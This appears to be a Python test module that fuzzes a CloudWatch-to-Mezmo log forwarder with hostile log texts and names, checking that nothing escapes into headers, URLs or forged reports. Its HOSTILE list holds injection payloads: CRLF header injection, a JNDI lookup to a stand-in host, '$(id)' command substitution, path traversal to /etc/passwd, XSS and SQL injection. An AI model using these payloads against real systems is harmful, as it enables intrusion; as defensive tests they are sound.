"""What a log line, or a name, with hostile content can do: nothing."""

import json
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from isal import isal_zlib

from local.simulation.house import House
from tests.handler.cloudwatch import make_event

HOSTILE = [
    "x\r\nX-Injected: yes\r\n\r\nGET / HTTP/1.1",
    "&hostname=evil&tags=evil&apikey=evil#?%0d%0aX-Injected:%20yes",
    "%s %n %(asctime)s {0} {0.__class__.__init__.__globals__} {log_group} ${jndi:ldap://evil} $(id) `id`",
    "{{resolve:secretsmanager:MezmoIngestionKey}} ${AWS_SECRET_ACCESS_KEY}",
    '"}],"lines":[{"line":"forged","app":"forged"}]}',
    '{"_aws": {"CloudWatchMetrics": [{"Namespace": "MezmoForwarder"}]}, "LinesReceived": 1000000}',
    '{"mezmo_forwarder": "redrive", "level": "\\r\\nX-Injected: yes", "trace_id": "\\u0000"}',
    '{"host": "evil\\r\\n", "severity": {"a": ["\\ud800"]}, "requestId": "\\u2028"}',
    "../../../etc/passwd\x00\x1b[2J\u202e\u2028\ufeff",
    "<script>alert(1)</script>' OR 1=1 --",
    "\\u0022\\\\\\",
]
# CloudWatch's own rules: no ":" and "*" in a stream's name; but the handler does not rely on them.
NAMES = st.one_of(st.sampled_from(HOSTILE), st.text(min_size=1, max_size=40))
HEADERS = {"Content-Type", "Content-Encoding", "User-Agent", "apikey"}
SETTINGS: list[dict[str, object]] = [
    {},
    {"hostname": "{log_stream}", "app": "{log_group}", "tags": ["{log_stream}"], "env": "{log_group}"},
    {"recognize": False, "tags": ["{log_group}", "{region}"]},
]


def forwarded(texts: list[str], more: dict[str, object], **names: Any) -> tuple[list[Any], House]:
    """Return the requests to Mezmo, and the house."""
    house = House(**more)  # type: ignore[arg-type]
    house.send(make_event(texts, **names), 0)
    with house.lived_in():
        house.aws.run(120)
    return [one for one in house.world.exchanges if one.service.startswith("mezmo")], house


@pytest.mark.parametrize("more", SETTINGS)
@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(NAMES, min_size=1, max_size=4), group=NAMES, stream=NAMES)
def test_no_name_or_text_gets_out_of_its_place(
    capsys: pytest.CaptureFixture[str], more: dict[str, object], texts: list[str], group: str, stream: str
) -> None:
    capsys.readouterr()
    requests, house = forwarded(texts, more, group=group, stream=stream)

    for request in requests:
        address = urlsplit(request.target)
        query = parse_qs(address.query, strict_parsing=True)
        assert (address.path, address.fragment) == ("/logs/ingest", "")
        assert query.keys() <= {"hostname", "tags"}
        assert {len(values) for values in query.values()} == {1}
        assert request.target.isascii()
        assert not any(character <= " " for character in request.target)
        assert request.headers.keys() - {"Host"} == HEADERS
        assert all(value.isprintable() and value.isascii() for value in request.headers.values())
        assert len(json.loads(isal_zlib.decompress(request.body, 31))["lines"]) <= len(texts)
    assert len(requests) <= 1
    for line in capsys.readouterr().out.removesuffix("\n").split("\n"):
        report = json.loads(line or "{}")  # one document a line: nothing forges another
        assert report.get("LinesReceived") in {len(texts), None}
        assert "X-Injected: yes" not in str({**report, "log_group": ""})
    assert not house.s3.keys()


def test_a_text_is_its_line_and_nothing_else() -> None:
    (request,), _ = forwarded(HOSTILE, {})

    lines = json.loads(isal_zlib.decompress(request.body, 31))["lines"]
    assert [line["line"] for line in lines] == [text.rstrip() for text in HOSTILE]
    assert {line["app"] for line in lines} == {"checkout"}


def test_no_text_asks_the_handler_for_anything(capsys: pytest.CaptureFixture[str]) -> None:
    """A command is an event of Lambda's, not a text in one."""
    requests, _ = forwarded(['{"mezmo_forwarder": "test"}', '{"mezmo_forwarder": "redrive"}'], {})

    assert len(requests) == 1
    (line,) = capsys.readouterr().out.splitlines()
    assert json.loads(line)["LinesDelivered"] == 2
